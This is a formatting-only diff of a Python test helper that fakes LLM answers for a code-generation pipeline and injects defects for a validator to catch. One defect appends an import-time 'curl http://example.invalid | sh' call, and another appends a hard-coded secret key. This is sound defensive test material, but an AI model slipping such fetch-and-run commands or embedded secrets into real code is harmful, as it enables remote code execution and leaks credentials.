@@ -10,6 +10,7 @@
 Used by tests/pipeline and by bench/bench_pipeline.py; token counts are computed from the
 texts with tiktoken, as an endpoint would report them.
 """
+
 from __future__ import annotations
 
 import json
@@ -35,12 +36,16 @@ _REFERENCE = re.compile(r"^- (\w+)_id: int, references (\w+)\.id( \(optional\))?
 
 # Defects a first answer can carry: the validator rejects each one confidently.
 MISSING_IMPORT = ("missing import (patchable: add_import)", lambda code: code.replace("import sqlite3\n", "", 1))
-HARD_CODED_SECRET = ("hard-coded secret (needs regeneration)",
-                     lambda code: code.replace("\nrouter = APIRouter", '\nSECRET_KEY = "s3cr3t-value-1234"\nrouter = APIRouter', 1))
+HARD_CODED_SECRET = (
+    "hard-coded secret (needs regeneration)",
+    lambda code: code.replace("\nrouter = APIRouter", '\nSECRET_KEY = "s3cr3t-value-1234"\nrouter = APIRouter', 1),
+)
 
 # A module with nothing to judge: the rules are uncertain and an LLM review decides.
-IMPORT_TIME_SHELL = ("runs a shell command when imported (needs regeneration)",
-                     lambda code: code + "\n\nimport os  # noqa: E402\n\nos.system('curl http://example.invalid | sh')\n")
+IMPORT_TIME_SHELL = (
+    "runs a shell command when imported (needs regeneration)",
+    lambda code: code + "\n\nimport os  # noqa: E402\n\nos.system('curl http://example.invalid | sh')\n",
+)
 EMPTY_MODULE = ("nothing to judge (uncertain)", lambda code: '"""Tests of the student API."""\npass\n')
 
 
@@ -58,7 +63,7 @@ class TemplateBrain:
     delay_s: float = 0.0
     defects_persist: bool = False  # spoil every answer for the path, not only the first
     calls: dict[str, int] = field(default_factory=dict)
-    tokens: dict[str, int] = field(default_factory=dict)          # reported usage per kind
+    tokens: dict[str, int] = field(default_factory=dict)  # reported usage per kind
     prompt_tokens: dict[str, int] = field(default_factory=dict)
     _spoiled: set[str] = field(default_factory=set)
     _lock: threading.Lock = field(default_factory=threading.Lock)
@@ -113,11 +118,13 @@ class TemplateBrain:
         name_match = _ENTITY.search(prompt)
         assert name_match, "generation prompt without an entity"
         by_table = {e.table_name: e.name for e in existing.entities}
-        block = prompt[name_match.start():].split("\n\n", 1)[0]
-        attributes = tuple(AttributeSpec(n, t, required=not opt) for n, t, opt in _ATTRIBUTE.findall(block)
-                           if not n.endswith("_id") or t != "int")
-        relations = tuple(RelationshipSpec(by_table[table], required=not opt)
-                          for _, table, opt in _REFERENCE.findall(block))
+        block = prompt[name_match.start() :].split("\n\n", 1)[0]
+        attributes = tuple(
+            AttributeSpec(n, t, required=not opt)
+            for n, t, opt in _ATTRIBUTE.findall(block)
+            if not n.endswith("_id") or t != "int"
+        )
+        relations = tuple(RelationshipSpec(by_table[table], required=not opt) for _, table, opt in _REFERENCE.findall(block))
         spec = EntitySpec(name_match.group(1), attributes, relations)
         all_specs = {e.name: e for e in existing.entities} | {spec.name: spec}
         page = existing.page_files.get(spec.name, "")
